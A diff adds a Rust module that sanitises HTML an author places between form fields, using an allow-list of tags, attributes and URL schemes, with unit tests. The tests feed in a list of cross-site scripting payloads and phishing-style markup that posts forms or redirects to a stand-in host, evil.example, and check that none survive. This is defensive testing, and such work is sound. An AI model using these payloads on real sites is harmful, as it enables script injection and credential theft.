@@ -1,0 +1,111 @@
+//! Markup that an author puts between the fields of a form: cleaned, so that it cannot pass for a part of our page.
+
+use ammonia::Builder;
+use std::collections::{HashMap, HashSet};
+use std::sync::LazyLock;
+
+/// Beyond this nothing of it is shown.
+const LONGEST: usize = 256 << 10;
+
+#[rustfmt::skip]
+const TAGS: [&str; 45] = [
+    "a", "b", "blockquote", "br", "caption", "code", "dd", "del", "details", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2",
+    "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "s", "small", "span", "strong", "sub",
+    "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr",
+];
+
+static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
+    let attributes = HashMap::from([
+        ("a", HashSet::from(["href", "target", "title"])),
+        ("img", HashSet::from(["src", "alt", "width", "height", "title"])),
+        ("td", HashSet::from(["colspan", "rowspan"])),
+        ("th", HashSet::from(["colspan", "rowspan", "scope"])),
+        ("ol", HashSet::from(["start"])),
+    ]);
+    let mut cleaner = Builder::new();
+    cleaner
+        .tags(HashSet::from(TAGS).into_iter().chain(["u", "ul"]).collect())
+        .tag_attributes(attributes)
+        .generic_attributes(HashSet::from(["lang", "dir"]))
+        .url_schemes(HashSet::from(["http", "https", "mailto", "tel"]))
+        .link_rel(Some("noopener noreferrer nofollow"));
+    cleaner
+});
+
+/// The markup with nothing in it that runs, loads from elsewhere by itself but pictures, or looks like our own fields.
+pub(super) fn clean(markup: &str) -> String {
+    if markup.len() > LONGEST {
+        return String::new();
+    }
+    CLEANER.clean(markup).to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn text_and_links_stay() {
+        assert_eq!(clean("<h2>Terms</h2><p>Read <b>all</b> of it.</p>"), "<h2>Terms</h2><p>Read <b>all</b> of it.</p>");
+        let link = clean("<a href='https://a.example/?q=1' target='_blank' onclick='x()'>here</a>");
+        assert_eq!(link, "<a href=\"https://a.example/?q=1\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">here</a>");
+        assert_eq!(clean("<img src='https://a.example/x.png' alt='x' onerror='y'>"), "<img src=\"https://a.example/x.png\" alt=\"x\">");
+    }
+
+    #[test]
+    fn nothing_runs_and_nothing_passes_for_a_part_of_the_page() {
+        for markup in [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg><script>alert(1)</script></svg>",
+            "<svg onload=alert(1)>",
+            "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
+            "<a href='javascript:alert(1)'>x</a>",
+            "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
+            "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+            "<iframe src='https://a.example'></iframe>",
+            "<object data='x'></object><embed src='x'>",
+            "<form action='https://evil.example'><input name=password></form>",
+            "<button formaction='https://evil.example'>x</button>",
+            "<style>body{display:none}</style>",
+            "<div style='position:fixed;inset:0' class='problem' id='field-0'>x</div>",
+            "<base href='https://evil.example'>",
+            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+            "<link rel=stylesheet href='https://evil.example'>",
+            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+            "<textarea><script>alert(1)</script></textarea>",
+            "</main></body><script>alert(1)</script>",
+            "<!--><script>alert(1)</script>-->",
+            "<template><script>alert(1)</script></template>",
+        ] {
+            let kept = clean(markup);
+            for wrong in [
+                "<script",
+                "onerror",
+                "onload",
+                "javascript:",
+                "<iframe",
+                "<object",
+                "<embed",
+                "<form",
+                "<input",
+                "<button",
+                "<style",
+                "style=",
+                "class=",
+                " id=",
+                "<base",
+                "<meta",
+                "<link",
+                "<svg",
+                "<textarea",
+                "</main",
+                "<template",
+                "data:",
+            ] {
+                assert!(!kept.contains(wrong), "{markup} left {kept}");
+            }
+        }
+        assert_eq!(clean(&"x".repeat(LONGEST + 1)), "");
+    }
+}
